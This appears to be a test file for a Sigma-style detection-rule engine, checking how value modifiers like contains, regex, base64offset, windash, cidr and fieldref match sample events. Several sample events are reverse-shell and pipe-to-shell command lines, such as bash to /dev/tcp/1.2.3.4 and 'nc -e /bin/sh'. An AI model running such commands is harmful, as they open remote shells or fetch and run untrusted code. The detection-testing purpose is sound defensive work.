// Value modifiers and value semantics, one table of cases: (selection, event, expected).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { matches, rule } from './helpers.ts';

type Case = [name: string, selection: string, event: Record<string, unknown>, expected: boolean, options?: { placeholders?: Record<string, string[]> }];

const sel = (body: string) => rule(`  sel:\n${body.split('\n').map((l) => `    ${l}`).join('\n')}\n  condition: sel`);

const cases: Case[] = [
  ['plain equality is case-insensitive', `Image: /usr/bin/CURL`, { Image: '/usr/bin/curl' }, true],
  ['plain equality is whole-value', `Image: /usr/bin/curl`, { Image: '/usr/bin/curl2' }, false],
  ['missing field does not match', `Image: /usr/bin/curl`, { Other: 'x' }, false],
  ['list of values is OR', `Image:\n  - /bin/a\n  - /bin/b`, { Image: '/bin/b' }, true],
  ['contains', `CommandLine|contains: 'dev/tcp'`, { CommandLine: 'bash -i >& /dev/tcp/1.2.3.4/80' }, true],
  ['startswith', `CommandLine|startswith: 'bash '`, { CommandLine: 'BASH -c id' }, true],
  ['startswith negative', `CommandLine|startswith: 'bash '`, { CommandLine: 'sh bash ' }, false],
  ['endswith', `Image|endswith: '/nc'`, { Image: '/usr/bin/nc' }, true],
  ['contains|all needs every value', `CommandLine|contains|all:\n  - ' -e '\n  - '/bin/sh'`, { CommandLine: 'nc -e /bin/sh 1.2.3.4' }, true],
  ['contains|all fails on one missing', `CommandLine|contains|all:\n  - ' -e '\n  - '/bin/sh'`, { CommandLine: 'nc 1.2.3.4' }, false],
  ['cased is case-sensitive', `Image|cased: /usr/bin/Curl`, { Image: '/usr/bin/curl' }, false],
  ['cased matches exact case', `Image|contains|cased: Curl`, { Image: '/usr/bin/Curl' }, true],
  ['wildcard * in the middle', `Image: '/usr/*/curl'`, { Image: '/usr/local/bin/curl' }, true],
  ['wildcard ? is one character', `Image: '/bin/?h'`, { Image: '/bin/sh' }, true],
  ['wildcard ? needs a character', `Image: '/bin/?h'`, { Image: '/bin/h' }, false],
  ['escaped \\* is a literal star', `CommandLine: 'a\\*b'`, { CommandLine: 'a*b' }, true],
  ['escaped \\* is not a wildcard', `CommandLine: 'a\\*b'`, { CommandLine: 'axxb' }, false],
  ['plain backslash stays', `Image: 'C:\\Windows\\cmd.exe'`, { Image: 'c:\\windows\\cmd.exe' }, true],
  ['double backslash is one backslash', `Image: 'C:\\\\Windows'`, { Image: 'C:\\Windows' }, true],
  ['backslash before wildcard escaped: \\\\*', `Image: 'C:\\\\*'`, { Image: 'C:\\Windows' }, true],
  ['numbers match numbers and text', `ProcessId: 42`, { ProcessId: '42' }, true],
  ['numbers match numbers', `ProcessId: 42`, { ProcessId: 42 }, true],
  ['booleans', `Initiated: true`, { Initiated: 'true' }, true],
  ['array field: any element', `Tags: x`, { Tags: ['a', 'X'] }, true],
  ['null matches a missing field', `ParentImage: null`, { Image: '/bin/sh' }, true],
  ['null matches a null field', `ParentImage: null`, { ParentImage: null }, true],
  ['null does not match a value', `ParentImage: null`, { ParentImage: '/bin/sh' }, false],
  ["empty value matches ''", `CommandLine: ''`, { CommandLine: '' }, true],
  ["empty value does not match missing", `CommandLine: ''`, {}, false],
  ['exists true', `CommandLine|exists: true`, { CommandLine: '' }, true],
  ['exists false', `CommandLine|exists: false`, { CommandLine: null }, false],
  ['exists false on missing', `CommandLine|exists: false`, {}, true],
  ['re is case-sensitive', `CommandLine|re: 'curl .* \\| (ba)?sh'`, { CommandLine: 'CURL x | sh' }, false],
  ['re matches anywhere', `CommandLine|re: 'curl .* \\| (ba)?sh'`, { CommandLine: 'x; curl http://a | bash' }, true],
  ['re|i', `CommandLine|re|i: '^curl'`, { CommandLine: 'CURL x' }, true],
  ['re|m: ^ at line starts', `Data|re|m: '^root$'`, { Data: 'x\nroot\ny' }, true],
  ['re without m', `Data|re: '^root$'`, { Data: 'x\nroot\ny' }, false],
  ['re|s: dot matches newline', `Data|re|s: 'a.b'`, { Data: 'a\nb' }, true],
  ['re without s', `Data|re: 'a.b'`, { Data: 'a\nb' }, false],
  ['base64', `Data|base64: 'hello'`, { Data: 'aGVsbG8=' }, true],
  ['base64offset|contains offset 0', `CommandLine|base64offset|contains: 'http://'`, { CommandLine: 'echo ' + btoa('http://evil') }, true],
  ['base64offset|contains offset 1', `CommandLine|base64offset|contains: 'http://'`, { CommandLine: 'echo ' + btoa('xhttp://evil') }, true],
  ['base64offset|contains offset 2', `CommandLine|base64offset|contains: 'http://'`, { CommandLine: 'echo ' + btoa('xyhttp://evil') }, true],
  ['base64offset|contains negative', `CommandLine|base64offset|contains: 'http://'`, { CommandLine: 'echo ' + btoa('ftp://evil') }, false],
  ['utf16le|base64offset|contains', `CommandLine|utf16le|base64offset|contains: 'Invoke'`, { CommandLine: 'ps -e ' + b64utf16le('xInvoke-Expr') }, true],
  ['wide is utf16le', `CommandLine|wide|base64offset|contains: 'Invoke'`, { CommandLine: 'ps -e ' + b64utf16le('Invoke-Expr') }, true],
  ['utf16be|base64', `Data|utf16be|base64: 'ab'`, { Data: btoa('\x00a\x00b') }, true],
  ['utf16 with BOM|base64', `Data|utf16|base64: 'ab'`, { Data: btoa('\xff\xfea\x00b\x00') }, true],
  ['windash: slash form', `CommandLine|windash|contains: ' -exec '`, { CommandLine: 'find . /exec x' }, true],
  ['windash: en dash form', `CommandLine|windash|contains: ' -exec '`, { CommandLine: 'find . \u2013exec x' }, true],
  ['windash: mid-word dash untouched', `CommandLine|windash|contains: 'a-b'`, { CommandLine: 'a/b' }, false],
  ['cidr IPv4', `DestinationIp|cidr: 10.0.0.0/8`, { DestinationIp: '10.1.2.3' }, true],
  ['cidr IPv4 outside', `DestinationIp|cidr: 10.0.0.0/8`, { DestinationIp: '11.1.2.3' }, false],
  ['cidr IPv6', `DestinationIp|cidr: 'fe80::/10'`, { DestinationIp: 'fe80::1%eth0' }, true],
  ['cidr IPv6 outside', `DestinationIp|cidr: 'fe80::/10'`, { DestinationIp: '2001:db8::1' }, false],
  ['cidr list', `DestinationIp|cidr:\n  - 127.0.0.0/8\n  - '::1/128'`, { DestinationIp: '::1' }, true],
  ['cidr non-IP value', `DestinationIp|cidr: 10.0.0.0/8`, { DestinationIp: 'host' }, false],
  ['gt', `DestinationPort|gt: 1024`, { DestinationPort: 4444 }, true],
  ['gt on text number', `DestinationPort|gt: 1024`, { DestinationPort: '80' }, false],
  ['gte boundary', `DestinationPort|gte: 1024`, { DestinationPort: 1024 }, true],
  ['lt', `DestinationPort|lt: 1024`, { DestinationPort: 22 }, true],
  ['lte boundary', `DestinationPort|lte: 22`, { DestinationPort: 22 }, true],
  ['numeric on non-number', `DestinationPort|gt: 1`, { DestinationPort: 'x' }, false],
  ['neq', `User|neq: root`, { User: 'alice' }, true],
  ['neq equal', `User|neq: root`, { User: 'ROOT' }, false],
  ['neq list means none of them', `User|neq:\n  - root\n  - admin`, { User: 'admin' }, false],
  ['neq missing field', `User|neq: root`, {}, false],
  ['fieldref equal', `ParentImage|fieldref: Image`, { Image: '/bin/sh', ParentImage: '/bin/SH' }, true],
  ['fieldref differ', `ParentImage|fieldref: Image`, { Image: '/bin/sh', ParentImage: '/bin/bash' }, false],
  ['fieldref|neq', `ParentImage|fieldref|neq: Image`, { Image: '/bin/sh', ParentImage: '/bin/bash' }, true],
  ['fieldref|contains', `CommandLine|fieldref|contains: User`, { CommandLine: 'su alice', User: 'alice' }, true],
  ['hour', `'@timestamp|hour': 3`, { '@timestamp': '2026-01-02T03:04:05Z' }, true],
  ['hour|gte', `'@timestamp|hour|gte': 22`, { '@timestamp': '2026-01-02T03:04:05Z' }, false],
  ['minute', `'@timestamp|minute': 4`, { '@timestamp': '2026-01-02T03:04:05Z' }, true],
  ['day', `'@timestamp|day': 2`, { '@timestamp': '2026-01-02T03:04:05Z' }, true],
  ['week', `'@timestamp|week': 1`, { '@timestamp': '2026-01-02T03:04:05Z' }, true],
  ['month|lt', `'@timestamp|month|lt': 2`, { '@timestamp': '2026-01-02T03:04:05Z' }, true],
  ['year', `'@timestamp|year': 2026`, { '@timestamp': 1767323045000 }, true],
  ['expand', `User|expand: '%Admins%'`, { User: 'bob' }, true, { placeholders: { Admins: ['alice', 'bob'] } }],
  ['expand with wildcard values', `Host|expand: '%Servers%'`, { Host: 'srv-12' }, true, { placeholders: { Servers: ['srv-*'] } }],
  ['expand|contains', `CommandLine|contains|expand: 'sudo -u %Admins%'`, { CommandLine: 'x sudo -u alice y' }, true, { placeholders: { Admins: ['alice'] } }],
  ['escaped percent is literal', `User|expand: '\\%Admins%'`, { User: '%Admins%' }, true, { placeholders: {} }],
  ['dotted names reach nested objects', `process.executable|endswith: /nc`, { process: { executable: '/bin/nc' } }, true],
  ['flat dotted keys win', `process.executable|endswith: /nc`, { 'process.executable': '/bin/nc' }, true],
  ['prototype keys are not fields', `constructor|exists: true`, {}, false],
];

for (const [name, selection, event, expected, options] of cases) {
  test(`modifier: ${name}`, () => {
    assert.equal(matches(sel(selection), event, options), expected);
  });
}

function b64utf16le(text: string): string {
  let out = '';
  for (const c of text) out += c + '\x00';
  return btoa(out);
}
